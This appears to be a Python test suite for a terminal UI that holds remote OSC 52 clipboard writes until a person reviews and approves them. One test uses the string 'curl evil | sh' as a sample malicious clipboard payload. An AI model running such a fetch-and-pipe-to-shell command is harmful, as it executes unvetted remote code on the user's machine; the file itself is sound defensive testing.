"""A node that writes to the clipboard (OSC 52): nothing happens before a person has looked, and no key is tricked."""

import pytest
from textual import events

from ssmtui.config.settings import Settings
from ssmtui.sessions.snapshots import ClipboardRequest
from ssmtui.sessions.states import SessionState
from ssmtui.ui.copying.clipboard_question import ClipboardQuestion
from ssmtui.ui.frame import main
from ssmtui.ui.frame.main import MainScreen
from tests.support.wait import wait_until
from tests.ui.harness import Harness


@pytest.fixture(autouse=True)
def _without_pause(monkeypatch):
    monkeypatch.setattr(main, "CLIPBOARD_PAUSE", 0.0)


async def asks(harness: Harness, key: int, text: str, number: int = 1) -> None:
    """The node would copy ``text``."""
    harness.manager.becomes(key, SessionState.OPEN, clipboard=ClipboardRequest(text, number))
    await harness.settle()


async def test_a_request_takes_no_key_and_waits_to_be_looked_at():
    async with Harness().run() as harness:
        await harness.ready()
        key = await harness.open_session()
        harness.manager.becomes(key, SessionState.OPEN, clipboard=ClipboardRequest("curl evil | sh\n", 1))
        for name in ("enter", "y", "o", "a"):
            harness.app.post_message(events.Key(name, "\r" if name == "enter" else name))
        await harness.settle()
        assert isinstance(harness.app.screen, MainScreen)
        assert harness.manager.written[key] == b"\ryoa"
        assert "wants your clipboard" in harness.text()
        assert "ctrl+] w clipboard?" in harness.text()
        assert harness.clipboard.given == []


async def test_it_is_shown_as_it_is_and_allowed_once():
    async with Harness().run() as harness:
        await harness.ready()
        key = await harness.open_session()
        await asks(harness, key, "one\n[b]two[/b]\x1b\n")
        await harness.press("f12", "w")
        assert isinstance(harness.app.screen, ClipboardQuestion)
        assert "Let bastion-1 put 2 lines, 16 characters into your clipboard?" in harness.text()
        assert "[b]two[/b]␛" in harness.text()
        await harness.press("enter", "y")
        assert isinstance(harness.app.screen, ClipboardQuestion), "neither is a yes here"
        await harness.press("o")
        await wait_until("the copy", lambda: harness.clipboard.given == ["one\n[b]two[/b]\x1b\n"])
        assert harness.manager.snapshot(key).clipboard is None
        assert "wants your clipboard" not in harness.text()
        await asks(harness, key, "again", 2)
        assert "wants your clipboard" in harness.text()


async def test_what_was_shown_is_copied_and_not_what_came_meanwhile():
    async with Harness().run() as harness:
        await harness.ready()
        key = await harness.open_session()
        await asks(harness, key, "harmless")
        await harness.press("f12", "w")
        await asks(harness, key, "harmful", 2)
        await harness.press("o")
        await wait_until("the copy", lambda: harness.clipboard.given == ["harmless"])
        assert harness.manager.snapshot(key).clipboard.text == "harmful"


async def test_a_session_can_be_allowed_or_refused_for_good():
    async with Harness().run() as harness:
        first, second = await harness.open_two()
        await asks(harness, second, "no")
        await harness.press("f12", "w", "N")
        await asks(harness, second, "no again", 2)
        await wait_until("it is dropped", lambda: harness.manager.snapshot(second).clipboard is None)
        await asks(harness, first, "yes")
        await harness.press("f12", "2", "f12", "w", "a")
        await wait_until("the copy", lambda: harness.clipboard.given == ["yes"])
        await asks(harness, first, "yes again", 2)
        await wait_until("both copies", lambda: harness.clipboard.given == ["yes", "yes again"])
        word = "Copied 9 characters of bastion-1 (OSC 52)"
        await wait_until("whose it is", lambda: word in harness.text(), report=harness.text)


@pytest.mark.parametrize(("name", "left"), [("n", False), ("escape", True)])
async def test_no_drops_a_request_and_esc_leaves_it(name, left):
    async with Harness().run() as harness:
        await harness.ready()
        key = await harness.open_session()
        await asks(harness, key, "text")
        await harness.press("f12", "w", name)
        assert (harness.manager.snapshot(key).clipboard is not None) is left
        assert harness.clipboard.given == []


async def test_allowing_all_can_be_set():
    async with Harness(settings=Settings(clipboard="allow")).run() as harness:
        await harness.ready()
        key = await harness.open_session()
        await asks(harness, key, "text")
        await wait_until("the copy", lambda: harness.clipboard.given == ["text"])


async def test_a_node_that_may_copy_cannot_do_so_all_the_time(monkeypatch):
    monkeypatch.setattr(main, "CLIPBOARD_PAUSE", 3600.0)
    async with Harness(settings=Settings(clipboard="allow")).run() as harness:
        await harness.ready()
        key = await harness.open_session()
        for number in range(1, 20):
            await asks(harness, key, f"text {number}", number)
        assert len(harness.clipboard.given) == 1


async def test_without_a_request_it_says_so():
    async with Harness().run() as harness:
        await harness.ready()
        await harness.open_session()
        await harness.press("f12", "w")
        await wait_until("why", lambda: "would put nothing into your clipboard" in harness.text(), report=harness.text)
